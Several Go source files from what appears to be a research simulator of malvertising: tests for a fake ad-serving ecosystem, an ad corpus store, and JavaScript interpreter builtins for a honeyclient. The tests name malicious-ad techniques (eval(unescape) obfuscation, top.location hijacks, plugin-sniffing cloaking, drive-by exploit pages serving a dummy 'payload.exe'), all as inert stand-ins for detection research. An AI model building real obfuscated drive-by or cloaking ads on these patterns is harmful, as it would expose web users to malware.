		io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		visited = append(visited, url)
		loc := resp.Header.Get("Location")
		if loc == "" {
			if resp.StatusCode != 200 {
				t.Fatalf("terminal status = %d", resp.StatusCode)
			}
			break
		}
		url = loc
	}
	if len(visited) != d.Auctions() {
		t.Fatalf("HTTP chain length %d != decision auctions %d", len(visited), d.Auctions())
	}
	// Each visited URL's host matches the decision's chain entry.
	for i, u := range visited {
		want := srv.Eco.Networks[d.Chain[i]].Domain
		if !strings.Contains(u, want) {
			t.Fatalf("hop %d = %q, want host %q", i, u, want)
		}
	}
}

func TestCreativeKinds(t *testing.T) {
	srv, _ := fixture(t)
	kinds := map[adnet.Kind]func(t *testing.T, html string){
		adnet.KindBenign: func(t *testing.T, html string) {
			if !strings.Contains(html, "document.write") || !strings.Contains(html, "/offer?c=") {
				t.Fatalf("benign creative: %s", html)
			}
		},
		adnet.KindLinkHijack: func(t *testing.T, html string) {
			if !strings.Contains(html, "top.location") && !strings.Contains(html, "eval(unescape(") {
				t.Fatalf("hijack creative: %s", html)
			}
		},
		adnet.KindCloaking: func(t *testing.T, html string) {
			if !strings.Contains(html, "navigator.plugins") && !strings.Contains(html, "eval(unescape(") {
				t.Fatalf("cloaking creative: %s", html)
			}
		},
		adnet.KindDriveBy: func(t *testing.T, html string) {
			if !strings.Contains(html, "exploit") && !strings.Contains(html, "eval(unescape(") {
				t.Fatalf("drive-by creative: %s", html)
			}
		},
		adnet.KindDeceptive: func(t *testing.T, html string) {
			if !strings.Contains(html, "player_update.exe") {
				t.Fatalf("deceptive creative: %s", html)
			}
		},
		adnet.KindMaliciousFlash: func(t *testing.T, html string) {
			if !strings.Contains(html, ".swf") {
				t.Fatalf("flash creative: %s", html)
			}
		},
		adnet.KindModelOnly: func(t *testing.T, html string) {
			if !strings.Contains(html, "eval(unescape(") {
				t.Fatalf("model-only creative should be obfuscated: %s", html)
			}
		},
	}
	for _, c := range srv.Eco.Campaigns {
		check, ok := kinds[c.Kind]
		if !ok {
			continue
		}
		html := CreativeHTML(c, "aabbccdd00112233", 1)
		check(t, html)
		delete(kinds, c.Kind)
		if len(kinds) == 0 {
			break
		}
	}
	if len(kinds) != 0 {
		t.Fatalf("campaign kinds not exercised: %v", kinds)
	}
}

func TestObfuscationRoundTrip(t *testing.T) {
	src := `var x = 1; document.write("hi");`
	ob := obfuscate(src)
	if !strings.HasPrefix(ob, `eval(unescape("`) {
		t.Fatalf("obfuscate output: %q", ob)
	}
	if strings.Contains(ob, "document.write(") {
		t.Fatal("payload should be fully percent-encoded")
	}
}

func TestPayloadServing(t *testing.T) {
	srv, u := fixture(t)
	var c *adnet.Campaign
	for _, cand := range srv.Eco.Campaigns {
		if cand.Kind == adnet.KindDriveBy {
			c = cand
			break
		}
	}
	if c == nil {
		t.Fatal("no drive-by campaign")
	}

	resp, body := fetch(t, u, "http://"+c.PayloadHost+"/exploit?imp=feedface")
	if resp.StatusCode != 200 || !strings.Contains(body, "payload.exe") {
		t.Fatalf("exploit page: %d %q", resp.StatusCode, body)
	}

	resp, body = fetch(t, u, "http://"+c.PayloadHost+"/payload.exe?imp=feedface")
	if ct := resp.Header.Get("Content-Type"); ct != "application/octet-stream" {
		t.Fatalf("exe content type = %q", ct)
	}
	if !strings.HasPrefix(body, "MZ") || !strings.Contains(body, "EVIL:"+c.ID) {
		t.Fatalf("exe bytes malformed: %.60q", body)
	}

	var fc *adnet.Campaign
	for _, cand := range srv.Eco.Campaigns {
		if cand.Kind == adnet.KindMaliciousFlash {
			fc = cand
			break
		}
	}
	resp, body = fetch(t, u, "http://"+fc.PayloadHost+"/promo_"+fc.ID+".swf")
	if ct := resp.Header.Get("Content-Type"); ct != "application/x-shockwave-flash" {
		t.Fatalf("swf content type = %q", ct)
	}
	if !strings.HasPrefix(body, "FWS") {
		t.Fatalf("swf bytes malformed: %.40q", body)
	}
}

func TestBadServeRequests(t *testing.T) {
	srv, u := fixture(t)
	net0 := srv.Eco.Networks[0].Domain
	for _, url := range []string{
		"http://" + net0 + "/serve",                                // missing params
		"http://" + net0 + "/serve?pub=x&imp=y&hop=banana",         // bad hop
		"http://" + net0 + "/serve?pub=x&imp=y&hop=-1",             // negative hop
		"http://" + net0 + "/serve?pub=www.unknown.zz&imp=a&hop=0", // unknown pub
		"http://" + net0 + "/other",                                // wrong path
	} {
		resp, _ := fetch(t, u, url)
		if resp.StatusCode == 200 {
			t.Errorf("URL %q should not return 200", url)
		}
	}
}

func TestEasyListMatchesAdInfrastructure(t *testing.T) {
	srv, _ := fixture(t)
	list, err := easylist.ParseString(srv.BuildEasyList())
	if err != nil {
		t.Fatal(err)
	}
	// Every network serve URL is ad-classified.
	for _, n := range srv.Eco.Networks {
		url := "http://" + n.Domain + "/serve?pub=x&slot=0&imp=a&hop=0"
		if !list.MatchURL(url) {
			t.Fatalf("serve URL not matched: %s", url)
		}
	}
	// The widget iframe is not.
	if list.MatchURL("http://" + WidgetHost + "/embed?site=x") {
		t.Fatal("widget iframe must not be ad-classified")
	}
	// Publisher pages are not.
	if list.MatchURL("http://" + srv.Web.Sites[0].Host + "/") {
		t.Fatal("publisher page must not be ad-classified")
	}
}

func TestSearchAndWidgetHosts(t *testing.T) {
	_, u := fixture(t)
	resp, body := fetch(t, u, "http://www.google.com/")
	if resp.StatusCode != 200 || !strings.Contains(body, "Search") {
		t.Fatalf("google stand-in: %d %q", resp.StatusCode, body)
	}
	resp, body = fetch(t, u, "http://"+WidgetHost+"/embed?site=foo.com")
	if resp.StatusCode != 200 || !strings.Contains(body, "foo.com") {
		t.Fatalf("widget: %d %q", resp.StatusCode, body)
	}
}

func TestLandingAndCreativeHosts(t *testing.T) {
	srv, u := fixture(t)
	c := srv.Eco.Campaigns[0]
	resp, _ := fetch(t, u, "http://"+c.LandingHost+"/offer?c="+c.ID)
	if resp.StatusCode != 200 {
		t.Fatalf("landing status = %d", resp.StatusCode)
	}
	resp, body := fetch(t, u, "http://"+c.CreativeHost+"/banners/b1_"+c.ID+".png")
	if resp.StatusCode != 200 || resp.Header.Get("Content-Type") != "image/png" {
		t.Fatalf("banner: %d %q", resp.StatusCode, resp.Header.Get("Content-Type"))
	}
	if !strings.HasPrefix(body, "\x89PNG") {
		t.Fatalf("banner bytes: %.20q", body)
	}
}

func TestBenignEXEClean(t *testing.T) {
	b := benignEXE("flashinstaller")
	if !strings.HasPrefix(string(b), "MZ") {
		t.Fatal("benign exe should look like a PE")
	}
	if strings.Contains(string(b), "EVIL") {
		t.Fatal("benign exe must not carry malware markers")
	}
}

func TestDecideDeterministic(t *testing.T) {
	srv, _ := fixture(t)
	site := srv.Web.Sites[10]
	d1, ok1 := srv.Decide(site.Host, "cafebabe12345678")
	d2, ok2 := srv.Decide(site.Host, "cafebabe12345678")
	if !ok1 || !ok2 {
		t.Fatal("decide failed")
	}
	if d1.Campaign.ID != d2.Campaign.ID || d1.Auctions() != d2.Auctions() {
		t.Fatal("decisions must be deterministic per impression")
	}
}
