// Package corpus stores the collected advertisements. The paper built "a
// corpus of 673,596 unique advertisements" by snapshotting rendered ad
// iframes as standalone HTML documents; this package is that store —
// content-hash deduplicated, queryable, and serializable so the crawl and
// oracle stages can run separately (the cmd tools pipe a corpus file
// between them).
package corpus

import (
	"bufio"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"sync"
)

// Ad is one unique advertisement snapshot plus its crawl context.
type Ad struct {
	// Hash is the SHA-256 of the rendered iframe HTML; the corpus key.
	Hash string `json:"hash"`
	// HTML is the rendered iframe document (after script execution), the
	// artefact the oracle re-analyzes.
	HTML string `json:"html"`
	// FrameURL is the iframe's src — the entry of the ad-serving chain.
	FrameURL string `json:"frame_url"`
	// FinalURL is where the chain terminated (the creative document URL).
	FinalURL string `json:"final_url"`
	// Impression is the impression identifier extracted from the serve URL.
	Impression string `json:"impression"`

	// Publisher context.
	PubHost  string `json:"pub_host"`
	PubRank  int    `json:"pub_rank"`
	Category string `json:"category"`
	TLD      string `json:"tld"`

	// Chain is the arbitration chain: the ad-network hosts the slot passed
	// through, in order (repeats preserved).
	Chain []string `json:"chain"`
	// Hosts is every host contacted while rendering the ad (used by the
	// blacklist oracle: "all the domains we monitored to serve
	// advertisements").
	Hosts []string `json:"hosts"`

	// Day and Refresh locate the observation in the crawl schedule.
	Day     int `json:"day"`
	Refresh int `json:"refresh"`
}

// HashHTML computes the corpus key for a rendered document.
func HashHTML(html string) string {
	sum := sha256.Sum256([]byte(html))
	return hex.EncodeToString(sum[:])
}

// Corpus is a thread-safe deduplicated advertisement store.
type Corpus struct {
	mu   sync.Mutex
	ads  map[string]*Ad
	keys []string // insertion order
	dups int
}

// New returns an empty corpus.
func New() *Corpus {
	return &Corpus{ads: make(map[string]*Ad)}
}

// Add inserts ad (computing its Hash if empty) and reports whether it was
// new. Duplicate snapshots are counted but not stored — the paper's corpus
// is deduplicated the same way.
func (c *Corpus) Add(ad *Ad) bool {
	if ad.Hash == "" {
		ad.Hash = HashHTML(ad.HTML)
	}
	c.mu.Lock()
	defer c.mu.Unlock()
	if _, ok := c.ads[ad.Hash]; ok {
		c.dups++
		return false
	}
	c.ads[ad.Hash] = ad
	c.keys = append(c.keys, ad.Hash)
	return true
}

// Len returns the number of unique advertisements.
func (c *Corpus) Len() int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return len(c.keys)
}

// Duplicates returns how many duplicate snapshots Add rejected.
func (c *Corpus) Duplicates() int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.dups
}

// Get returns the ad with the given hash, or nil.
func (c *Corpus) Get(hash string) *Ad {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.ads[hash]
}

// All returns the ads in insertion order.
func (c *Corpus) All() []*Ad {
	c.mu.Lock()
	defer c.mu.Unlock()
	out := make([]*Ad, len(c.keys))
	for i, k := range c.keys {
		out[i] = c.ads[k]
	}
	return out
}

// Each calls fn for every ad in insertion order, stopping if fn returns
// false.
func (c *Corpus) Each(fn func(*Ad) bool) {
	for _, ad := range c.All() {
		if !fn(ad) {
			return
		}
	}
}

// Save writes the corpus as JSON Lines (one ad per line).
func (c *Corpus) Save(w io.Writer) error {
	bw := bufio.NewWriter(w)
	enc := json.NewEncoder(bw)
	for _, ad := range c.All() {
		if err := enc.Encode(ad); err != nil {
			return fmt.Errorf("corpus: encode %s: %w", ad.Hash, err)
		}
	}
	return bw.Flush()
}

// Load reads a JSON Lines corpus written by Save.
func Load(r io.Reader) (*Corpus, error) {
	c := New()
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 1024*1024), 16*1024*1024)
	line := 0
	for sc.Scan() {
		line++
		if len(sc.Bytes()) == 0 {
			continue
		}
		var ad Ad
		if err := json.Unmarshal(sc.Bytes(), &ad); err != nil {
			return nil, fmt.Errorf("corpus: line %d: %w", line, err)
		}
		c.Add(&ad)
	}
	if err := sc.Err(); err != nil {
		return nil, err
	}
	return c, nil
}
