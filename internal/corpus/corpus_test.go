package corpus

import (
	"bytes"
	"fmt"
	"strings"
	"sync"
	"testing"
	"testing/quick"
)

func sampleAd(n int) *Ad {
	return &Ad{
		HTML:       fmt.Sprintf("<html><body>ad %d</body></html>", n),
		FrameURL:   fmt.Sprintf("http://adserv.net%d.com/serve?imp=%d", n%5, n),
		FinalURL:   fmt.Sprintf("http://adserv.net%d.com/serve?imp=%d&hop=2", n%5, n),
		Impression: fmt.Sprintf("imp%08d", n),
		PubHost:    fmt.Sprintf("www.site%d.com", n%100),
		PubRank:    n%100 + 1,
		Category:   "news",
		TLD:        "com",
		Chain:      []string{"adserv.a.com", "adserv.b.com"},
		Hosts:      []string{"adserv.a.com", "cdn.x.com"},
		Day:        1,
		Refresh:    n % 5,
	}
}

func TestAddAndDedup(t *testing.T) {
	c := New()
	if !c.Add(sampleAd(1)) {
		t.Fatal("first add should be new")
	}
	if c.Add(sampleAd(1)) {
		t.Fatal("identical HTML should dedup")
	}
	if !c.Add(sampleAd(2)) {
		t.Fatal("different HTML should be new")
	}
	if c.Len() != 2 || c.Duplicates() != 1 {
		t.Fatalf("len=%d dups=%d", c.Len(), c.Duplicates())
	}
}

func TestHashStable(t *testing.T) {
	h1 := HashHTML("<html>x</html>")
	h2 := HashHTML("<html>x</html>")
	if h1 != h2 || len(h1) != 64 {
		t.Fatalf("hashes: %q %q", h1, h2)
	}
	if HashHTML("<html>y</html>") == h1 {
		t.Fatal("different content same hash")
	}
}

func TestGetAndAll(t *testing.T) {
	c := New()
	ads := []*Ad{sampleAd(1), sampleAd(2), sampleAd(3)}
	for _, a := range ads {
		c.Add(a)
	}
	all := c.All()
	if len(all) != 3 {
		t.Fatalf("all = %d", len(all))
	}
	for i, a := range all {
		if a.Impression != ads[i].Impression {
			t.Fatal("insertion order violated")
		}
		if got := c.Get(a.Hash); got != a {
			t.Fatal("Get by hash failed")
		}
	}
	if c.Get("nope") != nil {
		t.Fatal("Get unknown should be nil")
	}
}

func TestEachEarlyStop(t *testing.T) {
	c := New()
	for i := 0; i < 10; i++ {
		c.Add(sampleAd(i))
	}
	n := 0
	c.Each(func(*Ad) bool {
		n++
		return n < 4
	})
	if n != 4 {
		t.Fatalf("visited %d", n)
	}
}

func TestSaveLoadRoundTrip(t *testing.T) {
	c := New()
	for i := 0; i < 50; i++ {
		c.Add(sampleAd(i))
	}
	var buf bytes.Buffer
	if err := c.Save(&buf); err != nil {
		t.Fatal(err)
	}
	loaded, err := Load(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if loaded.Len() != c.Len() {
		t.Fatalf("loaded %d, want %d", loaded.Len(), c.Len())
	}
	for _, a := range c.All() {
		got := loaded.Get(a.Hash)
		if got == nil {
			t.Fatalf("ad %s lost", a.Hash)
		}
		if got.FrameURL != a.FrameURL || got.PubHost != a.PubHost ||
			len(got.Chain) != len(a.Chain) || got.Day != a.Day {
			t.Fatalf("ad fields lost: %+v vs %+v", got, a)
		}
	}
}

func TestLoadRejectsGarbage(t *testing.T) {
	if _, err := Load(strings.NewReader("this is not json\n")); err == nil {
		t.Fatal("garbage should fail to load")
	}
}

func TestLoadSkipsBlankLines(t *testing.T) {
	c := New()
	c.Add(sampleAd(1))
	var buf bytes.Buffer
	c.Save(&buf)
	buf.WriteString("\n\n")
	loaded, err := Load(&buf)
	if err != nil || loaded.Len() != 1 {
		t.Fatalf("load: %v len=%d", err, loaded.Len())
	}
}

func TestConcurrentAdd(t *testing.T) {
	c := New()
	var wg sync.WaitGroup
	for w := 0; w < 8; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < 200; i++ {
				c.Add(sampleAd(i)) // heavy duplication across workers
			}
		}(w)
	}
	wg.Wait()
	if c.Len() != 200 {
		t.Fatalf("len = %d, want 200 unique", c.Len())
	}
	if c.Len()+c.Duplicates() != 8*200 {
		t.Fatalf("len+dups = %d", c.Len()+c.Duplicates())
	}
}

// Property: Save/Load preserves every hash for arbitrary HTML payloads.
func TestRoundTripProperty(t *testing.T) {
	f := func(payloads []string) bool {
		c := New()
		for i, p := range payloads {
			c.Add(&Ad{HTML: p, Impression: fmt.Sprint(i)})
		}
		var buf bytes.Buffer
		if err := c.Save(&buf); err != nil {
			return false
		}
		loaded, err := Load(&buf)
		if err != nil {
			return false
		}
		return loaded.Len() == c.Len()
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 50}); err != nil {
		t.Fatal(err)
	}
}
