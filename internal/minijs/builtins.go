package minijs

import (
	"math"
	"strings"
)

// The builtin function objects below are stateless: they read the receiver
// from `this` and everything else from args. A single frozen instance of each
// therefore serves every interpreter — creating an Interp no longer allocates
// per-method closures, and property writes on the shared objects are silently
// ignored (frozen), which keeps them race-free under concurrent visits. This
// matches the old per-access-closure behaviour observably: writes to a method
// object were never visible on the next property access either.

// installBuiltins defines the standard global bindings every execution
// context gets: Math, String, parseInt/parseFloat, isNaN, escape/unescape,
// URI coders, eval, and the Array/Function tag objects used by instanceof.
//
// Math.random is deterministic (a fixed-seed LCG) so that crawls are
// reproducible; the embedding browser replaces it with a stream derived from
// the simulation seed.
// sharedGlobals is the frozen scope of immutable builtins (constructors,
// global functions, NaN/Infinity) that every interpreter's global scope
// chains to. Built once; assignments shadow in the interpreter's own global
// (see Env.Assign), so sharing is race-free.
var sharedGlobals = func() *Env {
	g := NewEnv(nil)
	g.Define("NaN", Num(math.NaN()))
	g.Define("Infinity", Num(math.Inf(1)))
	g.Define("String", stringCtor.Value())
	g.Define("Number", numberCtor.Value())
	g.Define("Boolean", booleanCtor.Value())
	g.Define("Array", arrayCtor.Value())
	g.Define("Object", objectCtor.Value())
	g.Define("Function", functionCtor.Value())
	for name, fn := range globalFuncs {
		g.Define(name, fn.Value())
	}
	g.frozen = true
	return g
}()

func installBuiltins(in *Interp) {
	g := in.Global

	// Math is the one mutable builtin object: the browser layer overwrites
	// Math.random with a seeded stream, and scripts may patch it too, so the
	// object itself stays per-interpreter. Its methods are shared.
	mathObj := in.NewObject()
	mathObj.Name = "Math"
	mathObj.Props["PI"] = Num(math.Pi)
	mathObj.Props["E"] = Num(math.E)
	rngState := uint64(0x9e3779b97f4a7c15)
	mathObj.Props["random"] = in.NewNative("random", func(_ *Interp, _ Value, _ []Value) (Value, error) {
		rngState = rngState*6364136223846793005 + 1442695040888963407
		return Num(float64(rngState>>11) / (1 << 53)), nil
	}).Value()
	// The shared methods are served through a trap instead of being copied
	// into every interpreter's map. Props wins over the shared table so
	// patches (`Math.floor = ...`) and the per-interp random stay visible.
	mathObj.GetTrap = func(name string) (Value, bool) {
		if v, ok := mathObj.Props[name]; ok {
			return v, true
		}
		if m, ok := mathMethods[name]; ok {
			return m.Value(), true
		}
		return Value{}, false
	}
	g.Define("Math", mathObj.Value())
}

// mathMethods are the shared Math method objects (everything but random,
// which carries per-interpreter RNG state).
var mathMethods = func() map[string]*Object {
	m := map[string]*Object{}
	unary := func(name string, f func(float64) float64) {
		m[name] = newFrozenNative(name, func(_ *Interp, _ Value, args []Value) (Value, error) {
			return Num(f(ToNumber(arg(args, 0)))), nil
		})
	}
	unary("floor", math.Floor)
	unary("ceil", math.Ceil)
	unary("round", func(f float64) float64 { return math.Floor(f + 0.5) })
	unary("abs", math.Abs)
	unary("sqrt", math.Sqrt)
	unary("log", math.Log)
	unary("exp", math.Exp)
	unary("sin", math.Sin)
	unary("cos", math.Cos)
	m["pow"] = newFrozenNative("pow", func(_ *Interp, _ Value, args []Value) (Value, error) {
		return Num(math.Pow(ToNumber(arg(args, 0)), ToNumber(arg(args, 1)))), nil
	})
	m["max"] = newFrozenNative("max", func(_ *Interp, _ Value, args []Value) (Value, error) {
		out := math.Inf(-1)
		for _, a := range args {
			out = math.Max(out, ToNumber(a))
		}
		return Num(out), nil
	})
	m["min"] = newFrozenNative("min", func(_ *Interp, _ Value, args []Value) (Value, error) {
		out := math.Inf(1)
		for _, a := range args {
			out = math.Min(out, ToNumber(a))
		}
		return Num(out), nil
	})
	return m
}()

var stringCtor = func() *Object {
	o := newFrozenNative("String", func(_ *Interp, _ Value, args []Value) (Value, error) {
		return Str(ToString(arg(args, 0))), nil
	})
	o.Props = map[string]Value{
		"fromCharCode": newFrozenNative("fromCharCode", func(_ *Interp, _ Value, args []Value) (Value, error) {
			var b strings.Builder
			for _, a := range args {
				b.WriteRune(rune(int(ToNumber(a))))
			}
			return Str(b.String()), nil
		}).Value(),
	}
	return o
}()

var numberCtor = newFrozenNative("Number", func(_ *Interp, _ Value, args []Value) (Value, error) {
	return Num(ToNumber(arg(args, 0))), nil
})

var booleanCtor = newFrozenNative("Boolean", func(_ *Interp, _ Value, args []Value) (Value, error) {
	return Bool(Truthy(arg(args, 0))), nil
})

var arrayCtor = newFrozenNative("Array", func(_ *Interp, _ Value, args []Value) (Value, error) {
	if len(args) == 1 {
		if a0 := args[0]; a0.IsNumber() && a0.Num() == math.Trunc(a0.Num()) && a0.Num() >= 0 {
			n := a0.Num()
			if n >= maxArrayLen {
				return Value{}, &ThrowError{Value: Str("RangeError: invalid array length")}
			}
			elems := make([]Value, int(n))
			for i := range elems {
				elems[i] = Undefined()
			}
			return NewArray(elems...).Value(), nil
		}
	}
	// args may be a view of the VM's call arena; the array outlives the call,
	// so it must own its backing store.
	return NewArray(append([]Value(nil), args...)...).Value(), nil
})

var objectCtor = newFrozenNative("Object", func(_ *Interp, _ Value, _ []Value) (Value, error) {
	return NewObject().Value(), nil
})

var functionCtor = newFrozenNative("Function", func(_ *Interp, _ Value, _ []Value) (Value, error) {
	return Value{}, &ThrowError{Value: Str("TypeError: Function constructor is disabled")}
})

// globalFuncs are the shared stateless global functions.
var globalFuncs = map[string]*Object{
	"parseInt": newFrozenNative("parseInt", func(_ *Interp, _ Value, args []Value) (Value, error) {
		radix := 0
		if len(args) > 1 {
			radix = int(ToNumber(args[1]))
		}
		return Num(parseIntValue(ToString(arg(args, 0)), radix)), nil
	}),
	"parseFloat": newFrozenNative("parseFloat", func(_ *Interp, _ Value, args []Value) (Value, error) {
		return Num(ToNumber(Str(ToString(arg(args, 0))))), nil
	}),
	"isNaN": newFrozenNative("isNaN", func(_ *Interp, _ Value, args []Value) (Value, error) {
		return Bool(math.IsNaN(ToNumber(arg(args, 0)))), nil
	}),
	"escape": newFrozenNative("escape", func(_ *Interp, _ Value, args []Value) (Value, error) {
		return Str(jsEscape(ToString(arg(args, 0)))), nil
	}),
	"unescape": newFrozenNative("unescape", func(_ *Interp, _ Value, args []Value) (Value, error) {
		return Str(jsUnescape(ToString(arg(args, 0)))), nil
	}),
	"encodeURIComponent": newFrozenNative("encodeURIComponent", func(_ *Interp, _ Value, args []Value) (Value, error) {
		return Str(jsEncodeURIComponent(ToString(arg(args, 0)))), nil
	}),
	"decodeURIComponent": newFrozenNative("decodeURIComponent", func(_ *Interp, _ Value, args []Value) (Value, error) {
		return Str(jsDecodeURIComponent(ToString(arg(args, 0)))), nil
	}),
	// eval executes in the global scope (the only scope the dialect's eval
	// supports). Obfuscated malvertising payloads decode a string and eval
	// it; the honeyclient sees through this because the decoded program runs
	// in the same instrumented interpreter.
	"eval": newFrozenNative("eval", func(in *Interp, _ Value, args []Value) (Value, error) {
		a0 := arg(args, 0)
		if !a0.IsString() {
			return a0, nil
		}
		prog, err := Parse(a0.Str())
		if err != nil {
			return Value{}, &ThrowError{Value: Str("SyntaxError: " + err.Error())}
		}
		return in.RunProgram(prog)
	}),
}

// arg returns args[i] or Undefined.
func arg(args []Value, i int) Value {
	if i < len(args) {
		return args[i]
	}
	return Undefined()
}

// thisString coerces the receiver of a string method.
func thisString(this Value) string { return ToString(this) }

// stringMethods are the shared string primitive methods; the receiver string
// arrives as `this` (both engines pass the evaluated receiver for method
// calls, see evalCall and compileCall).
var stringMethods = map[string]*Object{
	"charAt": newFrozenNative("charAt", func(_ *Interp, this Value, args []Value) (Value, error) {
		s := thisString(this)
		i := int(ToNumber(arg(args, 0)))
		if i < 0 || i >= len(s) {
			return Str(""), nil
		}
		return Str(s[i : i+1]), nil
	}),
	"charCodeAt": newFrozenNative("charCodeAt", func(_ *Interp, this Value, args []Value) (Value, error) {
		s := thisString(this)
		i := int(ToNumber(arg(args, 0)))
		if i < 0 || i >= len(s) {
			return Num(math.NaN()), nil
		}
		return Num(float64(s[i])), nil
	}),
	"indexOf": newFrozenNative("indexOf", func(_ *Interp, this Value, args []Value) (Value, error) {
		return Num(float64(strings.Index(thisString(this), ToString(arg(args, 0))))), nil
	}),
	"lastIndexOf": newFrozenNative("lastIndexOf", func(_ *Interp, this Value, args []Value) (Value, error) {
		return Num(float64(strings.LastIndex(thisString(this), ToString(arg(args, 0))))), nil
	}),
	"substring": newFrozenNative("substring", func(_ *Interp, this Value, args []Value) (Value, error) {
		s := thisString(this)
		start, end := sliceBounds(len(s), args)
		return Str(s[start:end]), nil
	}),
	"substr": newFrozenNative("substr", func(_ *Interp, this Value, args []Value) (Value, error) {
		s := thisString(this)
		start := clampIndex(int(ToNumber(arg(args, 0))), len(s))
		length := len(s) - start
		if len(args) > 1 {
			length = int(ToNumber(args[1]))
		}
		if length < 0 {
			length = 0
		}
		if start+length > len(s) {
			length = len(s) - start
		}
		return Str(s[start : start+length]), nil
	}),
	"slice": newFrozenNative("slice", func(_ *Interp, this Value, args []Value) (Value, error) {
		s := thisString(this)
		start, end := negSliceBounds(len(s), args)
		if start > end {
			return Str(""), nil
		}
		return Str(s[start:end]), nil
	}),
	"toUpperCase": newFrozenNative("toUpperCase", func(_ *Interp, this Value, _ []Value) (Value, error) {
		return Str(strings.ToUpper(thisString(this))), nil
	}),
	"toLowerCase": newFrozenNative("toLowerCase", func(_ *Interp, this Value, _ []Value) (Value, error) {
		return Str(strings.ToLower(thisString(this))), nil
	}),
	"split": newFrozenNative("split", func(_ *Interp, this Value, args []Value) (Value, error) {
		s := thisString(this)
		if len(args) == 0 {
			return NewArray(Str(s)).Value(), nil
		}
		sep := ToString(args[0])
		var parts []string
		if sep == "" {
			for i := 0; i < len(s); i++ {
				parts = append(parts, s[i:i+1])
			}
		} else {
			parts = strings.Split(s, sep)
		}
		elems := make([]Value, len(parts))
		for i, p := range parts {
			elems[i] = Str(p)
		}
		return NewArray(elems...).Value(), nil
	}),
	"replace": newFrozenNative("replace", func(_ *Interp, this Value, args []Value) (Value, error) {
		s := thisString(this)
		repl := ToString(arg(args, 1))
		// Regex patterns honor the g flag; string patterns replace the
		// first match like JavaScript's string-pattern replace.
		if rr, ok := regexArg(arg(args, 0)); ok {
			return Str(regexReplace(s, rr, repl)), nil
		}
		old := ToString(arg(args, 0))
		return Str(strings.Replace(s, old, repl, 1)), nil
	}),
	"match": newFrozenNative("match", func(_ *Interp, this Value, args []Value) (Value, error) {
		s := thisString(this)
		rr, ok := regexArg(arg(args, 0))
		if !ok {
			return Null(), nil
		}
		re, ok := rr.re()
		if !ok {
			return Null(), nil
		}
		if rr.global {
			ms := re.FindAllString(s, -1)
			if ms == nil {
				return Null(), nil
			}
			elems := make([]Value, len(ms))
			for i, m := range ms {
				elems[i] = Str(m)
			}
			return NewArray(elems...).Value(), nil
		}
		loc := re.FindStringSubmatchIndex(s)
		if loc == nil {
			return Null(), nil
		}
		res := NewArray()
		for i := 0; i*2 < len(loc); i++ {
			if loc[i*2] < 0 {
				res.Elems = append(res.Elems, Undefined())
			} else {
				res.Elems = append(res.Elems, Str(s[loc[i*2]:loc[i*2+1]]))
			}
		}
		res.Set("index", Num(float64(loc[0])))
		res.Set("input", Str(s))
		return res.Value(), nil
	}),
	"search": newFrozenNative("search", func(_ *Interp, this Value, args []Value) (Value, error) {
		s := thisString(this)
		rr, ok := regexArg(arg(args, 0))
		if !ok {
			return Num(float64(strings.Index(s, ToString(arg(args, 0))))), nil
		}
		re, ok := rr.re()
		if !ok {
			return Num(-1), nil
		}
		loc := re.FindStringIndex(s)
		if loc == nil {
			return Num(-1), nil
		}
		return Num(float64(loc[0])), nil
	}),
	"concat": newFrozenNative("concat", func(_ *Interp, this Value, args []Value) (Value, error) {
		out := thisString(this)
		for _, a := range args {
			out += ToString(a)
		}
		return Str(out), nil
	}),
	"trim": newFrozenNative("trim", func(_ *Interp, this Value, _ []Value) (Value, error) {
		return Str(strings.TrimSpace(thisString(this))), nil
	}),
	"toString": newFrozenNative("toString", func(_ *Interp, this Value, _ []Value) (Value, error) {
		return Str(thisString(this)), nil
	}),
}

// stringMember resolves properties and methods on string primitives.
func stringMember(s, name string) Value {
	if name == "length" {
		return Num(float64(len(s)))
	}
	if m, ok := stringMethods[name]; ok {
		return m.Value()
	}
	return Undefined()
}

// numberMethods are the shared number primitive methods (receiver via this).
var numberMethods = map[string]*Object{
	"toString": newFrozenNative("toString", func(_ *Interp, this Value, args []Value) (Value, error) {
		n := ToNumber(this)
		if len(args) > 0 {
			radix := int(ToNumber(args[0]))
			if radix >= 2 && radix <= 36 && n == math.Trunc(n) {
				return Str(formatIntRadix(int64(n), radix)), nil
			}
		}
		return Str(formatNumber(n)), nil
	}),
	"toFixed": newFrozenNative("toFixed", func(_ *Interp, this Value, args []Value) (Value, error) {
		n := ToNumber(this)
		digits := int(ToNumber(arg(args, 0)))
		if digits < 0 || digits > 20 {
			digits = 0
		}
		pow := math.Pow(10, float64(digits))
		rounded := math.Floor(n*pow+0.5) / pow
		s := formatNumber(rounded)
		if digits > 0 && !strings.Contains(s, ".") {
			s += "." + strings.Repeat("0", digits)
		}
		return Str(s), nil
	}),
}

// numberMember resolves methods on number primitives.
func numberMember(n float64, name string) Value {
	if m, ok := numberMethods[name]; ok {
		return m.Value()
	}
	return Undefined()
}

func formatIntRadix(n int64, radix int) string {
	const digits = "0123456789abcdefghijklmnopqrstuvwxyz"
	if n == 0 {
		return "0"
	}
	neg := n < 0
	if neg {
		n = -n
	}
	var b []byte
	for n > 0 {
		b = append([]byte{digits[n%int64(radix)]}, b...)
		n /= int64(radix)
	}
	if neg {
		return "-" + string(b)
	}
	return string(b)
}

// thisArray coerces the receiver of an array method; nil when the receiver
// is not an array (e.g. a method extracted and called bare).
func thisArray(this Value) *Object {
	if a := this.Obj(); a != nil && a.IsArray {
		return a
	}
	return nil
}

// arrayMethods are the shared array methods (receiver via this).
var arrayMethods = map[string]*Object{
	"push": newFrozenNative("push", func(_ *Interp, this Value, args []Value) (Value, error) {
		a := thisArray(this)
		if a == nil {
			return Undefined(), nil
		}
		a.Elems = append(a.Elems, args...)
		return Num(float64(len(a.Elems))), nil
	}),
	"pop": newFrozenNative("pop", func(_ *Interp, this Value, _ []Value) (Value, error) {
		a := thisArray(this)
		if a == nil || len(a.Elems) == 0 {
			return Undefined(), nil
		}
		v := a.Elems[len(a.Elems)-1]
		a.Elems = a.Elems[:len(a.Elems)-1]
